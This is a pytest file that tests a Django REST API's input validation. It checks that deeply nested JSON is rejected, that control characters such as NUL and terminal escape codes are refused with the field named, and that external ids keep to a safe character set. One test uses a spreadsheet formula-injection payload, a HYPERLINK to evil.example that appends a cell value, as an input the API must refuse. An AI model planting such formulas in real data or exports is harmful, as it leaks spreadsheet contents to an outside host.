"""Input robustness of API v1: deeply nested JSON is a 400, control characters in text fields are
refused with the field named, external ids keep to their safe character set."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from rest_framework.test import APIClient

from people.models import Context, Person
from recognition.models import Recognition
from web.api.parsers import MAX_JSON_DEPTH

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_throttling")]

Client = Callable[[str | None], APIClient]
AT = "2026-10-05T10:00:00Z"
DEEP_BODIES = {
    "5,000 [": "[" * 5000,
    "5,000 [ closed": "[" * 5000 + "]" * 5000,
    "objects": '{"a":' * 5000 + "1" + "}" * 5000,
    f"{MAX_JSON_DEPTH + 1} levels": "[" * (MAX_JSON_DEPTH + 1) + "]" * (MAX_JSON_DEPTH + 1),
}


# --- Deep JSON ----------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/api/v1/recognitions/", "/api/v1/events/bulk/"])
@pytest.mark.parametrize("body", DEEP_BODIES.values(), ids=DEEP_BODIES.keys())
def test_deeply_nested_json_is_a_400(hr: APIClient, url: str, body: str) -> None:
    response = hr.post(url, data=body, content_type="application/json")
    assert response.status_code == 400, response.content
    assert response.json() == {
        "detail": f"JSON parse error - nested deeper than {MAX_JSON_DEPTH} levels",
        "code": "parse_error",
    }


def test_json_nested_up_to_the_limit_is_parsed(hr: APIClient) -> None:
    body = '{"events": ' + "[" * (MAX_JSON_DEPTH - 1) + "]" * (MAX_JSON_DEPTH - 1) + "}"
    response = hr.post("/api/v1/events/bulk/", data=body, content_type="application/json")
    assert response.status_code == 400, response.content  # parsed; an event is not a list
    assert "events" in response.json()


# --- Control characters -------------------------------------------------------------------------


def bulk(*messages: str, atomic: bool) -> dict[str, Any]:
    events = [
        {"kind": "recognition", "source": "E1", "target": "E2", "at": AT, "message": message}
        for message in messages
    ]
    return {"events": events, "atomic": atomic}


def test_a_nul_in_a_bulk_event_field_is_a_400_naming_the_field(hr: APIClient) -> None:
    before = Recognition.objects.count()
    response = hr.post("/api/v1/events/bulk/", bulk("fine", "a\x00b", atomic=True))
    assert response.status_code == 400, response.content
    assert response.json()["rejections"] == [
        {"index": 1, "reason": "message: contains a control character (U+0000)"}
    ]
    assert Recognition.objects.count() == before


def test_without_atomic_the_good_bulk_events_are_kept(hr: APIClient) -> None:
    before = Recognition.objects.count()
    events = bulk("kept", "multi\nline\tmessage", atomic=False)
    events["events"].append({"kind": "follow", "source": "E1", "target": "E\x002", "at": AT})
    response = hr.post("/api/v1/events/bulk/", events)
    assert response.status_code == 200, response.content
    assert response.json()["rejections"] == [
        {"index": 2, "reason": "target: contains a control character (U+0000)"}
    ]
    assert Recognition.objects.count() == before + 2
    assert Recognition.objects.filter(message="multi\nline\tmessage").exists()


@pytest.mark.parametrize(
    ("url", "body", "field", "code_point"),
    [
        ("/api/v1/recognitions/", {"target": "E2", "message": "ding\x07"}, "message", "0007"),
        ("/api/v1/recognitions/", {"target": "E2", "event_id": "a\x1bb"}, "event_id", "001B"),
        ("/api/v1/people/", {"external_id": "E77", "name": "Eve\x1b[31m"}, "name", "001B"),
        ("/api/v1/people/", {"external_id": "E77", "name": "a\x00b"}, "name", "0000"),
        ("/api/v1/people/", {"external_id": "E77", "name": "E", "title": "a\tb"}, "title", "0009"),
        ("/api/v1/contexts/", {"kind": "team", "name": "Ops\x85x"}, "name", "0085"),
    ],
)
def test_control_characters_in_text_fields_are_a_400_naming_the_field(
    hr: APIClient, url: str, body: dict[str, str], field: str, code_point: str
) -> None:
    counts = (Person.objects.count(), Context.objects.count(), Recognition.objects.count())
    if url == "/api/v1/recognitions/":
        body = {**body, "source": "E1", "at": AT}
    response = hr.post(url, body)
    assert response.status_code == 400, response.content
    assert response.json()[field] == [f"contains a control character (U+{code_point})"]
    assert counts == (Person.objects.count(), Context.objects.count(), Recognition.objects.count())


def test_a_message_keeps_its_line_breaks_and_tabs(hr: APIClient) -> None:
    body = {"source": "E1", "target": "E2", "at": AT, "message": "Thanks!\r\n\tfor all"}
    response = hr.post("/api/v1/recognitions/", body)
    assert response.status_code == 201, response.content
    assert response.json()["message"] == "Thanks!\r\n\tfor all"


# --- External ids ------------------------------------------------------------------------------


def test_a_formula_external_id_is_refused(hr: APIClient) -> None:
    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
    response = hr.post("/api/v1/people/", {"external_id": leak, "name": "Eve"})
    assert response.status_code == 400, response.content
    (message,) = response.json()["external_id"]
    assert message.startswith(f"{leak[:50]!r} is not a valid external id (use ASCII letters")
    assert not Person.objects.filter(name="Eve").exists()
    email_like = hr.post("/api/v1/people/", {"external_id": "jane.doe@corp.example", "name": "J"})
    assert email_like.status_code == 201, email_like.content
